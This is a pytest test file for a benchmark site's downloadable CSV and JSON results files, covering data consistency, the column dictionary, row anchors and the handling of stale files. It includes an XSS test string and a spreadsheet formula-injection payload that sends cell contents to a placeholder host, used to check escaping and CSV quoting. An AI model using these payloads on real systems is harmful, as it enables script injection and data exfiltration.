"""Data to take away: every results table has CSV and JSON files with its rows as raw numbers, the
whole dataset is one file with a dictionary of its columns, every row has an anchor, and the
files in docs/data/files/ are written only when they change, stale ones removed."""

import csv
import io
import json
import os
import re
import shutil

import pytest

from accelbench.core.reference import Reference
from accelbench.core.text import esc, fmt, fmt_time
from accelbench.prebuild import includes, render_site
from accelbench.publish import downloads
from accelbench.publish.render.tables import clipped
from accelbench.workloads.discovery import workload_settings

from conftest import ROOT, SNIPPETS, make_record, make_run, new_data_dir, write_run
from helpers import copy_project

FIXTURES = ROOT / "tests" / "fixtures" / "runs"
EVIL = '<script>alert(1)</script> | "quoted", x](javascript:alert(1))'


def render_project(tmp_path, data_dir, name="p"):
    """The real pages rendered from ``data_dir`` into a copy of the project; returns the project."""
    project = tmp_path / name
    if not project.exists():
        copy_project(project)
        shutil.rmtree(project / "docs" / "data" / "files", ignore_errors=True)  # whatever the checkout holds
    render_site(project, data_dir, SNIPPETS, execute_notebooks=False)
    return project


def with_fixtures(data_dir):
    """DATA_DIR holding the fixture run files and the committed published files."""
    for path in FIXTURES.glob("*.json"):
        shutil.copy(path, data_dir / "runs" / path.name)
    shutil.copytree(ROOT / "build_data" / "published", data_dir / "published")
    return data_dir


@pytest.fixture
def fixture_data(data_dir):
    return with_fixtures(data_dir)


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """The project rendered once from the fixture runs, for the tests that only read what it wrote
    (a render takes seconds; the tests that add a run render their own)."""
    parent = tmp_path_factory.mktemp("downloads")
    return render_project(parent, with_fixtures(new_data_dir(parent)))


def read_csv(path):
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


def body_rows(html):
    """(id, cells HTML) of every body row of every table in ``html``."""
    return re.findall(r'<tr id="([^"]*)">(.*?)</tr>', html, re.S)


def files_of(project):
    return project / "docs" / downloads.FILES


def test_a_table_and_its_csv_hold_the_same_rows_and_values(rendered):
    project = rendered
    html = (project / "generated" / "evidence" / "table.matmul.md").read_text()
    rows = read_csv(files_of(project) / "table-matmul.csv")
    shown = body_rows(html)
    assert len(shown) == len(rows) > 4
    for (_, cells), row in zip(shown, rows, strict=True):
        assert f'#run-{row["run_id"]}"' in cells  # the row's numbers link to the run the CSV names
        assert f'<td>{row["device"]}</td><td>{row["framework"]}</td>' in cells
        if row["status"] == "ok":
            median, tflops = float(row["median_s"]), float(row["tflops"])
            assert f">{fmt_time(median)}</a>" in cells and f">{fmt(tflops)}</a>" in cells
            # the cell sorts by the raw number the CSV holds, written without an exponent
            sort_keys = [float(v) for v in re.findall(r'data-sort="([^"]*)"', cells)]
            assert median in sort_keys and tflops in sort_keys
            assert all("e" not in v.lower() for v in re.findall(r'data-sort="([^"]*)"', cells))
        else:
            assert f'{row["status"]}: {row["reason"]}' in cells and row["median_s"] == ""
    assert {"median_s", "tflops", "run_id", "date"} <= set(rows[0])


def test_every_download_link_points_at_a_file_written_from_the_pages_folder(rendered):
    project = rendered
    found = 0
    for fragment in (project / "generated").rglob("*.md"):
        folder = fragment.parent.relative_to(project / "generated")
        for href in re.findall(r'<a href="([^"]+)" download>', fragment.read_text()):
            assert (project / "docs" / folder / href).resolve().is_file(), (fragment, href)
            found += 1
    names = {p.name for p in files_of(project).iterdir()}
    assert {"table-matmul.csv", "best-matmul.json", "cost.csv", "accelbench-records.csv", "mlperf-published.csv",
            "published-gpt3-v4.0.csv"} <= names
    assert found >= len(names)  # every file is linked (some from more than one folder)


def test_json_and_csv_agree(rendered):
    project = rendered
    pairs = sorted(files_of(project).glob("*.csv"))
    assert len(pairs) > 10
    for path in pairs:
        rows = read_csv(path)
        data = json.loads(path.with_suffix(".json").read_text())
        assert len(rows) == len(data), path.name
        for row, obj in zip(rows, data, strict=True):
            assert list(row) == list(obj), path.name  # the same columns in the same order
            for key, text in row.items():
                value = obj[key]
                if value is None:
                    assert text == ""
                elif isinstance(value, bool):
                    assert text == str(value).lower()
                elif isinstance(value, (int, float)):
                    assert float(text) == value  # raw numbers, every digit, in both
                else:  # a text a spreadsheet would run as a formula is quoted in the CSV only
                    assert text == value or (text == "'" + value and value.startswith(downloads.FORMULA_START))


def test_a_text_a_spreadsheet_would_run_is_quoted_in_the_csv_and_kept_in_the_json(tmp_path, data_dir):
    formula = '=HYPERLINK("http://x.example/?"&A1,"click")'
    write_run(data_dir, make_run(records=[make_record(device="@SUM(A1)")], host=formula))
    project = render_project(tmp_path, data_dir)
    row = read_csv(files_of(project) / "accelbench-records.csv")[0]
    assert row["host"] == "'" + formula and row["device"] == "'@SUM(A1)"
    assert json.loads((files_of(project) / "accelbench-records.json").read_text())[0]["host"] == formula
    assert downloads.to_csv([{"x": -1.5, "y": "-1.5"}]) == b"x,y\n-1.5,-1.5\n"  # numbers stay numbers


def test_the_dataset_has_one_row_per_stored_record(tmp_path, fixture_data):
    write_run(fixture_data, make_run(records=[make_record(), make_record(params={"n": 512, "dtype": "float32"},
                                                                         status="failed", reason="out of memory",
                                                                         samples_s=[], metrics={})]))
    project = render_project(tmp_path, fixture_data)
    stored = [(run["run_id"], rec) for p in sorted((fixture_data / "runs").glob("*.json"))
              for run in [json.loads(p.read_text())] for rec in run["records"]]
    rows = read_csv(files_of(project) / "accelbench-records.csv")
    assert len(rows) == len(stored) == sum(len(json.loads(p.read_text())["records"]) for p in FIXTURES.glob("*.json")) + 2
    assert sorted((r["run_id"], r["workload"], r["device"], r["framework"], r["status"]) for r in rows) == \
        sorted((run_id, rec["workload"], rec["device"], rec["framework"], rec["status"]) for run_id, rec in stored)
    failed = next(r for r in rows if r["status"] == "failed" and r["run_id"] == "20261130T000000Z-synthetic-00000001")
    assert failed["reason"] == "out of memory" and failed["median_s"] == "" and failed["param_n"] == "512"
    ok = next(r for r in rows if r["run_id"] == "20261130T000000Z-synthetic-00000001" and r["status"] == "ok")
    assert ok["param_dtype"] == "float32" and float(ok["m_tflops"]) > 0 and ok["platform"] == "cpu"
    assert ok["date"] == "2026-11-30" and ok["host"] == "synthetic-test-host"
    published = read_csv(files_of(project) / "mlperf-published.csv")
    # every entry, scored or entered without its logs (a round read from a mirror): the latter unscored
    entries = sum(len(data["results"]) + len(data.get("entered", [])) for p in (fixture_data / "published").glob("*.json")
                  for data in [json.loads(p.read_text())] if data["kind"] == "mlperf-training")
    assert len(published) == entries > 0
    unscored = [r for r in published if r["runs_scored"] == ""]
    assert unscored and all(r["score_minutes"] == "" and r["mirror_of"] for r in unscored)
    page = (project / "generated" / "data" / "dataset.md").read_text()
    assert f"{len(stored)} records from {len(list((fixture_data / 'runs').glob('*.json')))} run files" in page


def test_the_dictionary_covers_every_column_of_the_dataset(rendered):
    project = rendered
    listed = (project / "generated" / "data" / "data-dictionary.md").read_text()
    from accelbench.sources import SOURCES

    sections = listed.split("**Columns of ")[1:]
    names = ["accelbench-records", *(s.dataset for s in SOURCES.values())]
    assert len(sections) == len(names)
    for section, name in zip(sections, names, strict=True):
        assert section.startswith(f"{name}.csv")
        if not (files_of(project) / f"{name}.csv").exists():
            continue  # a source with nothing imported in the fixture data: no file, its columns still listed
        header = next(csv.reader(io.StringIO((files_of(project) / f"{name}.csv").read_text())))
        assert re.findall(r"<td><code>([^<]+)</code></td>", section) == header
    # metrics are described where they are declared: metrics.py
    from accelbench.core.metrics import METRICS
    assert f"<td><code>m_tflops</code></td><td>{clipped(esc(METRICS['tflops'].doc))}</td><td>TFLOP/s</td>" in listed
    assert "<td><code>median_s</code></td><td>the median time of one call over the timing samples</td><td>s</td>" in listed


def test_a_column_declared_nowhere_is_refused():
    with pytest.raises(KeyError):
        downloads.dictionary(["run_id", "made_up"], downloads.RECORD_COLUMNS)


def test_row_ids_are_unique_on_every_page(tmp_path, fixture_data):
    # two devices whose names differ only in punctuation slugify alike: they still get two ids
    write_run(fixture_data, make_run(records=[make_record(device="Synthetic CPU"), make_record(device="Synthetic-CPU")]))
    project = render_project(tmp_path, fixture_data)
    pages = {}
    for inc in includes(project / "docs"):
        pages.setdefault(inc.where.split(":")[0], []).append((project / "generated" / inc.path).read_text())
    checked = 0
    for page, fragments in pages.items():
        ids = re.findall(r'<tr id="([^"]+)"', "".join(fragments))
        assert len(ids) == len(set(ids)), page
        checked += len(ids)
    assert checked > 50
    matmul = (project / "generated" / "evidence" / "table.matmul.md").read_text()
    ids = [i for i, _ in body_rows(matmul)]
    assert len(ids) == len(read_csv(files_of(project) / "table-matmul.csv"))
    assert "table-matmul-synthetic-cpu-torch-dtype-float32-n-256" in ids
    assert "table-matmul-synthetic-cpu-torch-dtype-float32-n-256-2" in ids
    assert all(re.fullmatch(r"[a-z0-9-]+", i) for i in ids)


def test_strings_from_run_files_are_escaped_in_tables_and_kept_whole_in_files(tmp_path, data_dir):
    write_run(data_dir, make_run(records=[make_record(device=EVIL, framework="torch")], host=EVIL))
    project = render_project(tmp_path, data_dir)
    for fragment in ("evidence/table.matmul.md", "article/best.matmul.md", "data/data-dictionary.md", "data/dataset.md"):
        html = (project / "generated" / fragment).read_text()
        assert "<script>" not in html and '| "quoted"' not in html and '"quoted"' not in html, fragment
    table = (project / "generated" / "evidence" / "table.matmul.md").read_text()
    assert "&lt;script&gt;" in table
    assert all(re.fullmatch(r"[a-z0-9-]+", i) for i, _ in body_rows(table))
    rows = read_csv(files_of(project) / "table-matmul.csv")
    assert rows[0]["device"] == EVIL  # data, not HTML: the file keeps the string as it was
    assert json.loads((files_of(project) / "accelbench-records.json").read_text())[0]["host"] == EVIL


def test_files_are_written_only_when_their_bytes_change(tmp_path, data_dir):
    write_run(data_dir, make_run())
    project = render_project(tmp_path, data_dir)
    files = sorted(files_of(project).iterdir())
    old = 1_000_000_000_000_000_000  # 2001, in ns: a rewrite would set today's time
    for path in files:
        os.utime(path, ns=(old, old))
    render_project(tmp_path, data_dir)
    assert [p.stat().st_mtime_ns for p in sorted(files_of(project).iterdir())] == [old] * len(files)
    # a new run changes the tables' files and the dataset, and only those are rewritten
    write_run(data_dir, make_run(run_id="20261201T000000Z-synthetic-00000002", created_at="2026-12-01T00:00:00Z"))
    render_project(tmp_path, data_dir)
    changed = {p.name for p in files_of(project).iterdir() if p.stat().st_mtime_ns != old}
    assert {"table-matmul.csv", "accelbench-records.csv"} <= changed
    assert "table-matmul.csv" in changed and len(changed) < len(files)
    assert "20261201T000000Z-synthetic-00000002" in (files_of(project) / "table-matmul.csv").read_text()


def test_stale_files_are_removed(tmp_path, data_dir):
    write_run(data_dir, make_run())
    stale = files_of(project := tmp_path / "p")
    copy_project(project)
    shutil.rmtree(stale, ignore_errors=True)
    (stale / "old").mkdir(parents=True)
    (stale / "table-gone.csv").write_text("left from an earlier render")
    (stale / "old" / "x.json").write_text("{}")
    render_project(tmp_path, data_dir)
    assert not (stale / "table-gone.csv").exists() and not (stale / "old").exists()
    assert (stale / "table-matmul.csv").exists()
    # a table that no longer has rows takes its files with it
    (data_dir / "runs" / "20261130T000000Z-synthetic-00000001.json").unlink()
    render_project(tmp_path, data_dir)
    assert not (stale / "table-matmul.csv").exists() and (stale / "accelbench-records.csv").exists()
    assert read_csv(stale / "accelbench-records.csv") == []


def test_write_files_leaves_equal_files_and_removes_the_rest(tmp_path):
    folder = tmp_path / "files"
    assert downloads.write_files(folder, {"a.csv": b"1\n", "b.json": b"[]\n"}) == [folder / "a.csv", folder / "b.json"]
    assert downloads.write_files(folder, {"a.csv": b"1\n", "b.json": b"[]\n"}) == []
    assert downloads.write_files(folder, {"a.csv": b"2\n"}) == [folder / "a.csv"]
    assert sorted(p.name for p in folder.iterdir()) == ["a.csv"] and (folder / "a.csv").read_bytes() == b"2\n"


def test_two_different_downloads_under_one_name_are_refused():
    first = downloads.files_for("t", [{"a": 1}])
    assert downloads.merged(first, downloads.files_for("t", [{"a": 1}])) == first  # the same table, another folder
    with pytest.raises(downloads.DownloadError):
        downloads.merged(first, downloads.files_for("t", [{"a": 2}]))


def test_a_fragment_kind_returns_its_text_and_its_downloads():
    """What a renderer makes comes back from it: no download travels through a shared cache."""
    from accelbench.prebuild import context
    from accelbench.publish.fragments import Links, render
    from accelbench.store.store import Store

    ctx = context(Store.of_runs([make_run()], {make_run()["run_id"]: ROOT / "x.json"}),
                  Reference(ROOT / "build_data" / "reference"), workload_settings(ROOT / "snippets"), Links("evidence"))
    made = render(ctx, "table", ["matmul"])
    assert sorted(made.downloads) == ["data/files/table-matmul.csv", "data/files/table-matmul.json"]
    assert 'href="../data/files/table-matmul.csv"' in made.text and "downloads" not in ctx.memo


def test_tables_sort_with_the_vendored_tablesort():
    vendor = ROOT / "docs" / "assets" / "vendor" / "tablesort"
    assert (vendor / "tablesort.min.js").read_text().startswith("/*!\n * tablesort v5.")
    assert "Tablesort.extend(\"number\"" in (vendor / "tablesort.number.min.js").read_text()
    assert "MIT" in (vendor / "LICENSE").read_text() or "Permission is hereby granted" in (vendor / "LICENSE").read_text()
    init = (ROOT / "docs" / "assets" / "tablesort-init.js").read_text()
    assert "document$.subscribe" in init and "DOMContentLoaded" in init and 'querySelectorAll("article table")' in init
